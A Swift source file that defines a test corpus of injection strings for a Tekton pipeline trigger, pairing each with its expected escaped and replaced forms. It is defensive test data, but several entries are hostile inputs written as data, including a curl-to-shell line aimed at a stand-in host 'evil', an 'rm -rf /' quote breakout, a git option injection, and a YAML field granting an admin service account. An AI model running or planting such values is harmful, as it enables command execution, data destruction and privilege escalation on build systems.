// What strangers put into names, titles, messages and comments, and what it must become.

/// Texts that try to be more than text where a run is made of them.
///
/// Tekton takes `$(…)` in a run for a reference, shells take much more for a command, and YAML and JSON
/// written without care take a quote or a line feed for their own. Each text stays the one string that
/// it is; what Tekton would take for a reference is dealt with as the trigger's `unsafeValues` says.
package enum InjectionCorpus {
  /// One text with what becomes of it.
  package struct Case: Sendable, CustomStringConvertible {
    /// What it tries.
    package let attempt: String
    package let text: String
    /// With `unsafeValues: escape`.
    package let escaped: String
    /// With `unsafeValues: replace`.
    package let replaced: String

    /// Whether `unsafeValues: refuse` refuses it.
    package var isUnsafe: Bool { !text.utf8.elementsEqual(escaped.utf8) }
    package var description: String { attempt }

    /// A text that stays as it is whatever the trigger says.
    init(_ attempt: String, _ text: String) {
      self.init(attempt, text, escaped: text, replaced: text)
    }

    init(_ attempt: String, _ text: String, escaped: String, replaced: String) {
      self.attempt = attempt
      self.text = text
      self.escaped = escaped
      self.replaced = replaced
    }
  }

  package static let cases: [Case] = shell + references + structure + characters

  private static let shell = [
    Case("command substitution", "main$(id)", escaped: "main$$(id)", replaced: "main(id)"),
    Case("back-ticks", "x`id`"),
    Case("a second command", "a;curl${IFS}evil|sh"),
    Case("quotes and a comment", "'\"; rm -rf /; #"),
    Case("an option", "-upload-pack=sh"),
    Case("a path upwards", "../../x"),
    Case("a pattern of files", "*"),
    Case("a redirection", "x>/dev/null&&y<z"),
  ]

  private static let references = [
    Case(
      "a parameter", "$(params.secret)", escaped: "$$(params.secret)",
      replaced: "(params.secret)"),
    Case(
      "a parameter of Tekton Triggers", "$(tt.params.other)", escaped: "$$(tt.params.other)",
      replaced: "(tt.params.other)"),
    Case(
      "one that is escaped already", "$$(params.x)", escaped: "$$$(params.x)",
      replaced: "(params.x)"),
    Case(
      "one that is escaped twice", "$$$(params.x)", escaped: "$$$$(params.x)",
      replaced: "(params.x)"),
    Case(
      "the run's own name", "$(context.pipelineRun.name)",
      escaped: "$$(context.pipelineRun.name)", replaced: "(context.pipelineRun.name)"),
    Case(
      "a workspace", "$(workspaces.w.path)", escaped: "$$(workspaces.w.path)",
      replaced: "(workspaces.w.path)"),
    Case(
      "a placeholder of ours", "$(event.sender)", escaped: "$$(event.sender)",
      replaced: "(event.sender)"),
    Case(
      "a placeholder in a placeholder", "$(body.$(event.sender))",
      escaped: "$$(body.$$(event.sender))", replaced: "(body.(event.sender))"),
    Case("one that is not closed", "$(", escaped: "$$(", replaced: "("),
    Case("half of one", "$"),
    Case("the other half", "(x)"),
    Case("one with a combining accent after the dollar", "$\u{301}(x)"),
    Case(
      "one with a combining accent in it", "$(\u{301}params.x)", escaped: "$$(\u{301}params.x)",
      replaced: "(\u{301}params.x)"),
    Case("a template of Helm", "{{ .Values.secret }}"),
    Case("an escape of JSON", "\\u0024(x)"),
    Case("an escape of a URL", "%24(x)"),
  ]

  private static let structure = [
    Case("a field of YAML", "x\n  serviceAccountName: admin"),
    Case("a field of JSON", "\"},\"x\":{\""),
    Case("a document of YAML", "x\n---\nkind: Pod"),
    Case("null", "null"), Case("a boolean", "true"), Case("a number", "5"), Case("no value", "~"),
    Case("a list", "- a"), Case("a list in flow", "[a]"), Case("an object", "{a: b}"),
    Case("a comment", "x # y"), Case("an anchor", "&a *a"), Case("a tag of YAML", "!!binary aGk="),
  ]

  private static let characters = [
    Case("NUL", "a\u{0}b"), Case("a line separator", "a\u{2028}b"),
    Case("a direction override", "\u{202E}gnp.exe"), Case("an escape sequence", "\u{1B}[2J"),
    Case("300 bytes", String(repeating: "é", count: 150)), Case("an emoji", "🚀"),
    Case("a replacement character", "\u{FFFD}"), Case("a byte order mark", "\u{FEFF}x"),
    Case("a decomposed letter", "e\u{301}"), Case("the last character", "\u{10FFFF}"),
  ]
}
